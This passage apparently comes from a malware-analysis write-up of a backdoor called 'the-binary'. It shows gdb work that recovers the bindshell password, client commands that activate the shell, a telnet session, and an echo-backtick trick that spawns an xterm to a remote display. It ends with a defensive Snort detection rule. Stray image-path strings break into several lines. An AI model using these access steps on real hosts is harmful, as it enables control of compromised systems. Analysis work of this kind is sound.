  417 tts/0    S      0:00 /sbin/mingetty serial/0
  454 ?        S      0:00 [mingetty]
  507 ?        S      0:00 [mingetty]
  508 ?        S      0:00 [mingetty]
(gdb) attach 508
Attaching to process 508
0x08056b74 in ?? ()
(gdb) bt
#0  0x08056b74 in ?? ()
#1  0x080489cf in ?? ()
#2  0x080480eb in ?? ()
(gdb) disassemble 0x080489cf 0x08048a1b
Dump of assembler code from 0x80489cf to 0x8048a1b:
0x80489cf:      xor    %ebx,%ebx0x80489d1:      add    $0x10,%esp
0x80489d4:      mov    0xffffbc44(%ebx,%ebp,1),%al
0x80489db:      cmp    $0xa,%al
0x80489dd:      je     0x80489e3
0x80489df:      cmp    $0xd,%al
0x80489e1:      jne    0x80489f0
0x80489e3:      movb   $0x0,0xffffbc44(%ebx,%ebp,1)
0x80489eb:      jmp    0x80489fe
0x80489ed:      lea    0x0(%esi),%esi
0x80489f0:      mov    %al,0xffffbc44(%ebx,%ebp,1)
0x80489f7:      incb   0xffffbc44(%ebx,%ebp,1)
0x80489fe:      inc    %ebx
0x80489ff:      cmp    $0x12,%ebx
0x8048a02:      jle    0x80489d4
0x8048a04:      lea    0xffffbc44(%ebp),%esi
0x8048a0a:      mov    $0x8067617,%edi
0x8048a0f:      mov    $0x6,%ecx
0x8048a14:      cld
0x8048a15:      test   $0x0,%al
0x8048a17:      repz cmpsb %es:(%edi),%ds:(%esi)
0x8048a19:      je     0x8048a44
End of assembler dump.
(gdb) break*0x8048a0f
Breakpoint 1 at 0x8048a0f
(gdb) cont

Typing 'SeNiF' into telnet followed by a few spaces causes the breakpoint to be reached, and I compare the password from the network to the password in the binary:

Breakpoint 1, 0x08048a0f in ?? ()
(gdb) x/10c 0xffffbc44+$ebp
0x9fffb7e8:     84 'T'  102 'f' 79 'O'  106 'j' 71 'G'  33 '!'  33 '!'  33 '!'
0x9fffb7f0:     33 '!'  33 '!'
(gdb) x/10c 0x8067617
0x8067617:      84 'T'  102 'f' 79 'O'  106 'j' 71 'G'  0 '\000'        -1 '' -5 ''
0x806761f:      1 '\001'        0 '\000'

So the password is correct. The problem appears to be that 6 characters are compared, and the password is 5 characters, so I needed a trailing null byte. As newlines are translated to null bytes, all I needed to do was press Enter after typing the password. I restarted the bindshell with the-client, and reconnected with telnet and typed SeNiF followed by Enter. This worked, because then when I pressed Enter a second time I got the response ": commandnot found".

[[email protected] reverse]$ sudo ./the-client -i tap0 -s -d stop
Cmd: 8  Resp?: 0        Bind?: 0        Proto: 11
Body: 400       Wait: 500       Device: tap0    ttl: 250        Unk: 0
Source:    Dest:
[[email protected] reverse]$ sudo ./the-client -i tap0 -s -d bindshell
Cmd: 6  Resp?: 0        Bind?: 1        Proto: 11
Body: 400       Wait: 500       Device: tap0    ttl: 250        Unk: 0
Source:    Dest:STUB: no bindshell support yet
[[email protected] reverse]$ telnet 23281
Connected to
Escape character is '^]'.

: command not found
: command not found
echo hi

As it turns out, the shell is pretty useless because it cannot find any non builtin commands. This can be overcome (if you don't possibly mind giving away your IP address to the owner of the compromised system) by setting xhost on an x-server to allow access from the compromised host and starting an x-term to display on the x-server, eg:

[[email protected] reverse]$ telnet 23281
Connected to
Escape character is '^]'.
echo `/usr/X11R6/bin/xterm -display`

this exploits the builtin command echo, and the `` quotes that can be used to run a command using the bindshell.

Using Snort to detect the-binary command traffic

As the-binary is controlled by packets using an unusual protocol, I decided that this was a goodway to detect the network traffic related to this program and others like it. Since Snort (an Open Source network intrusion detection system) has an easy to use rule system for configuring its alerts, I decided to prototype this with Snort.

Snort is configured using rule files. The rule files list rules that can specify which packets and data flows to match, and what to tell the Snort user about those packets.

At first glance, I could not find any way to specify how to monitor for particular IP protocols in the Snort documentation. A bit of research uncovered the ip_proto keyword. I created and tested the rule:

alert ip $EXTERNAL_NET any <> $HOME_NET 0 (msg:"Traffic on unusual IP protocol"
; ip_proto: !6; ip_proto: !17; ip_proto: !1; classtype:misc-activity; rev:1;)
which detected the traffic. I tried adding more protocols to the exclusion list, but Snort started detecting all traffic so I left it at that. The greater than (>) operator does not seem to work with ip_proto, and it does not seem to be able to handle lists. In a production environment you would need to ignore 5 or so major protocols (TCP, UDP, ICMP, IGRP, various routing protocols such as OSPF) to cut down on false positives. Protocol numbers are assigned by IANA and available at

What we have learnt about the binary

The-binary is a back door program. It acts as a network server, listening on IP protocol 11. Command and response packets are encoded using a simple cipher.It provides facilitiesto execute shell commands using /bin/csh and /bin/sh as root on the compromised system, and the abilityto launch a variety ofDenial of Service (DOS) attacks.